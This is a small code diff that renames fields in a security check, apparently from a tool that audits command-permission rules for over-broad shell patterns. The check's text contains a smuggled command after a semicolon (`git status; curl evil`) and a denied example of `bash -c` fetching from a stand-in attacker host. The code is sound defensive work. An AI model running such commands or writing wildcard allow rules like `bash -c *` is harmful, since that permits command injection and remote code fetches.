@@ -11,10 +11,12 @@ CHECK = Check(
     evidence="proved",
     finds="A rule that matches the text of a whole command line, or hands one to a shell.",
     why="`git status; curl evil` begins like `git status`.",
-    mend=("Nothing to do: a script is read into its commands, each is asked for, and `bash -c` is looked through."),
+    remediation=(
+        "Nothing to do: a script is read into its commands, each is asked for, and `bash -c` is looked through."
+    ),
     bad='allow run "bash -c *"',
     good='allow run "git status"',
     near=(),
     shows="deny: run bash -c 'curl https://evil.example'",
-    look=None,
+    function=None,
 )
